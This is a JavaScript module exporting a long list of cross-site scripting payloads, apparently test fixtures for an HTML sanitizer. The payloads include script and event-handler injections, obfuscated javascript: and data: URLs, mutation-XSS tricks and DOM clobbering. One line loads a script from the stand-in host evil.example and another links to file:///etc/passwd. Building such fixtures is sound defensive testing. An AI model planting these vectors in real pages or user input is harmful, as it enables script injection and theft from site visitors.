/** Hostile input in many forms: what each would run, were it ever read as HTML or followed as a link, is `alert`. */
export const payloads = String.raw`
<script>alert(1)</script>
<script src=//evil.example/x.js></script>
<ScRiPt>alert(1)</sCrIpT>
<script/src="data:text/javascript,alert(1)"></script>
<<script>alert(1)//<</script>
<scr<script>ipt>alert(1)</scr</script>ipt>
<img src=x onerror=alert(1)>
<img src=x:alert(alt) onerror=eval(src) alt=xss>
<img src="javascript:alert(1)">
<img/src='x'/onerror='alert(1)'>
<IMG """><SCRIPT>alert(1)</SCRIPT>"\>
<img src="data:text/html,<script>alert(1)</script>">
<svg onload=alert(1)>
<svg><script>alert(1)</script></svg>
<svg><a xlink:href="javascript:alert(1)"><text y=20>click</text></a></svg>
<svg><animate onbegin=alert(1) attributeName=x dur=1s>
<svg><foreignObject><body onload=alert(1)></foreignObject></svg>
<svg><use href="data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>#x"/></svg>
<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">
<math><mi xlink:href="javascript:alert(1)">click</mi></math>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">
<math href="javascript:alert(1)">x</math>
<body onload=alert(1)>
<iframe src="javascript:alert(1)"></iframe>
<iframe srcdoc="<script>alert(1)</script>"></iframe>
<object data="javascript:alert(1)"></object>
<embed src="javascript:alert(1)">
<base href="javascript:alert(1)//"><a href="x">y</a>
<meta http-equiv=refresh content="0;url=javascript:alert(1)">
<link rel=stylesheet href="javascript:alert(1)">
<style>@import 'javascript:alert(1)';</style>
<style><img src="</style><img src=x onerror=alert(1)//">
<div style="background:url(javascript:alert(1))">x</div>
<div style="width:expression(alert(1))">x</div>
<a href="javascript:alert(1)">x</a>
<a href="JaVaScRiPt:alert(1)">x</a>
<a href=" javascript:alert(1)">x</a>
<a href="java&#10;script:alert(1)">x</a>
<a href="java&#9;script:alert(1)">x</a>
<a href="&#1;javascript:alert(1)">x</a>
<a href="&#x6A;avascript:alert(1)">x</a>
<a href="javascript&colon;alert(1)">x</a>
<a href="data:text/html,<script>alert(1)</script>">x</a>
<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>
<a href="vbscript:msgbox(1)">x</a>
<a href="feed:javascript:alert(1)">x</a>
<a href="blob:https://x.example/1">x</a>
<a href="file:///etc/passwd">x</a>
<a href="//evil.example/%0ajavascript:alert(1)">x</a>
<a href="https://x.example/)](javascript:alert(1)">x</a>
<a href="https://x.example/&quot;onclick=&quot;alert(1)">x</a>
<a href="https://x.example">](javascript:alert(1))[</a>
<a href="https://x.example/?a=b)[x](javascript:alert(2)">a</a>
<p>[click](javascript:alert(1))</p>
<p>[click](JAVASCRIPT:alert(1))</p>
<p>[click](data:text/html;base64,PHN2Zz4=)</p>
<p>[click](https://x.example/"onmouseover="alert(1))</p>
<p>&lt;script&gt;alert(1)&lt;/script&gt;</p>
<p>&lt;img src=x onerror=alert(1)&gt;</p>
<code>&lt;img src=x onerror=alert(1)&gt;</code>
<pre>&lt;/pre&gt;&lt;script&gt;alert(1)&lt;/script&gt;</pre>
<textarea><script>alert(1)</script></textarea>
<title><img src=x onerror=alert(1)></title>
<noscript><p title="</noscript><img src=x onerror=alert(1)>">
<noembed><img src=x onerror=alert(1)></noembed>
<xmp><img src=x onerror=alert(1)></xmp>
<plaintext><img src=x onerror=alert(1)>
<template><img src=x onerror=alert(1)></template>
<select><template><img src=x onerror=alert(1)></template></select>
<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>
<form id=f><input name=attributes><input name=childNodes><input name=parentNode>x</form>
<form action="javascript:alert(1)"><button>go</button></form>
<button formaction="javascript:alert(1)">go</button>
<details open ontoggle=alert(1)>x</details>
<video><source onerror=alert(1)></video>
<audio src=x onerror=alert(1)></audio>
<marquee onstart=alert(1)>x</marquee>
<input autofocus onfocus=alert(1)>
<isindex type=image src=1 onerror=alert(1)>
<x onclick=alert(1)>x</x>
<custom-element onpointerover=alert(1)>x</custom-element>
<table background="javascript:alert(1)"><tr><td>x</td></tr></table>
<!--<img src="--><img src=x onerror=alert(1)//">
<![CDATA[<img src=x onerror=alert(1)>]]>
<?xml version="1.0"?><x:script xmlns:x="http://www.w3.org/1999/xhtml">alert(1)</x:script>
<p title="</p><img src=x onerror=alert(1)>">x</p>
<b id=getElementById>x</b><b name=cookie>y</b>
<a id=location href="https://x.example" ping="javascript:alert(1)" target=_blank>x</a>
<span data-x="<script>alert(1)</script>" aria-label="javascript:alert(1)">x</span>
${'\uFDD6'}<b>&#xFDD0;x&#xFDD0;</b>
`
  .trim()
  .split('\n');
